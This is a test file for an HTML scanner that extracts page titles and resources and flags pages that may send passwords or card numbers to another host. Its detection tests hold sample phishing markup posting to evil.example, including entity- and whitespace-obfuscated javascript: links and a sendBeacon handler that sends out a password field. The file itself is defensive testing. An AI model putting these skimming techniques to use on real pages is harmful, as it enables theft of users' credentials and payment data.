import { describe, expect, it } from 'vitest';
import { scanPage } from './scan-page.ts';
import { suspicionOf } from './suspicion.ts';

async function scan(html: string, chunkLength = 7) {
  async function* chunks() {
    for (let at = 0; at < html.length; at += chunkLength) yield html.slice(at, at + chunkLength);
  }
  return scanPage(chunks());
}

describe('scanPage', () => {
  it('finds the title, with entities decoded and spaces collapsed', async () => {
    expect((await scan('<head><title>\n Ada &amp;\n the&nbsp;engine </title>')).title).toBe('Ada & the engine');
  });

  it('treats markup in a title as text', async () => {
    expect((await scan('<title>&lt;img src=x onerror=alert(1)&gt;</title>')).title).toBe(
      '<img src=x onerror=alert(1)>',
    );
  });

  it('ignores the title of a drawing and an empty title', async () => {
    expect((await scan('<svg><title>Icon</title></svg><title>Page</title>')).title).toBe('Page');
    expect((await scan('<title> </title><p>x')).title).toBeUndefined();
    expect((await scan('<p>x')).title).toBeUndefined();
  });

  it('drops characters and addresses that cannot be stored', async () => {
    const { title, resources } = await scan(`<title>a\0b</title><img src="c\0\n.png"><img src="${'x'.repeat(5000)}">`);
    expect(title).toBe('a b');
    expect([...resources]).toEqual(['c.png']);
  });

  it('resolves addresses against a base as browsers read it', async () => {
    const { links } = await scan('<base href=" ht&#10;tps://other.example/x/"><a href="a&#10;.html">');
    expect([...links]).toEqual(['https://other.example/x/a.html']);
  });

  it('collects what the page needs to look right', async () => {
    const { resources } = await scan(
      '<link rel=stylesheet href=a.css><link rel=canonical href=/me><img src="b.png"><a href=c.html></a><script src=d.js></script>',
    );
    expect([...resources]).toEqual(['a.css', 'b.png', 'd.js']);
  });

  /** @contract publish/scan */
  it.each([
    ['a password sent to another host', '<form action="https://evil.example/"><input type=password></form>'],
    ['a scheme-relative action', '<form action="//evil.example/"><input type=PASSWORD></form>'],
    [
      'a button with its own action',
      '<form><input type=password><button formaction=https://evil.example>Go</button></form>',
    ],
    ['a field that names its form', '<form id=f action=https://evil.example></form><input type=password form=f>'],
    ['a base that leads away', '<base href=https://evil.example/><form action=login><input type=password></form>'],
    ['a script that sends elsewhere', '<input type=password><script>fetch("https://evil.example")</script>'],
    [
      'a script with an outdated type',
      '<input type=password><script type=text/jscript>open("//evil.example")</script>',
    ],
    [
      'a link that is a script',
      '<input type=password><a href=" java&#10;script:location=\'https://evil.example\'">Go</a>',
    ],
    ['a line break in the scheme', '<form action="ht&#10;tps://evil.example/"><input type=password></form>'],
    ['a control character before the scheme', '<form action="&#1; https://evil.example/"><input type=password></form>'],
    ['a tab between two slashes', '<form action="/&#9;/evil.example/"><input type=password></form>'],
    ['a line break between two backslashes', '<form action="\\&#13;\\evil.example/"><input type=password></form>'],
    ['a tab in the address of a button', '<input type=password><button formaction="/&Tab;/evil.example">Go</button>'],
    ['a tab in the scheme of a base', '<base href="h&Tab;ttps://evil.example/"><form><input type=password></form>'],
    [
      'a script behind a hundred spaces',
      `<input type=password><a href="${' '.repeat(100)}j${'&#10;'.repeat(100)}avascript:open('//evil.example')">Go</a>`,
    ],
    [
      'a button outside its form',
      '<form id=f><input type=password></form><button form=f formaction=https://evil.example>Go</button>',
    ],
    ['an embedded page', '<iframe srcdoc="<form action=https://evil.example><input type=password></form>"></iframe>'],
    ['a form with a prefix, as in XML', '<h:form action="//evil.example"><h:input type="password"/></h:form>'],
    [
      'a handler on the form',
      '<form onsubmit="navigator.sendBeacon(\'https://evil.example\', this.p.value)"><input type=password></form>',
    ],
    ['a card number', '<form action=https://evil.example><input name=cardnumber></form>'],
    ['a card by autocomplete', '<form action=https://evil.example><input autocomplete="billing cc-number"></form>'],
  ])('suspects %s', async (_, html) => {
    expect(suspicionOf([(await scan(html)).secrets])).toBeDefined();
  });

  it.each([
    ['a search form elsewhere', '<form action=https://duckduckgo.com/><input name=q></form>'],
    ['a password field without a target', '<form><input type=password></form>'],
    ['a script alone', '<script>draw()</script><input name=q>'],
    ['a password beside a script that stays on the page', '<input type=password><script>measure()</script>'],
    ['data beside a password field', '<script type=application/ld+json>{}</script><input type=password>'],
    ['a business card', '<form action=https://x.example><input name=discard><input name=postcard></form>'],
  ])('does not suspect %s', async (_, html) => {
    expect(suspicionOf([(await scan(html)).secrets])).toBeUndefined();
  });

  it.each([
    ['nested elements', '<div>', ''],
    ['nested forms', '<div><form>', ''],
    ['end tags of elements that are not open', '<b></i>', ''],
    ['drawings', '<svg></foreignObject>', ''],
    ['links below a long base', '<a href=x>', `<base href="https://a.example/${'x'.repeat(200_000)}">`],
    ['attributes', '" x', '<p x="'],
    ['pages within pages', '&lt;div srcdoc=&quot;', '<iframe srcdoc="'],
  ])('takes time in proportion to the length of a page: %s', async (_, repeated, before) => {
    /** Processor time, which other programs do not change. */
    const microsecondsFor = async (length: number) => {
      const html = before + repeated.repeat(Math.floor(length / repeated.length));
      const start = process.threadCpuUsage();
      await scan(html, 64 * 1024);
      const { user, system } = process.threadCpuUsage(start);
      return user + system;
    };
    const short = [];
    for (let run = 0; run < 5; run += 1) short.push(await microsecondsFor(20_000));
    const long = await microsecondsFor(400_000);
    // Twenty times the length; quadratic time would be four hundred times as much.
    expect(long).toBeLessThan(150 * Math.max(...short.slice(2), 1000));
  });
});
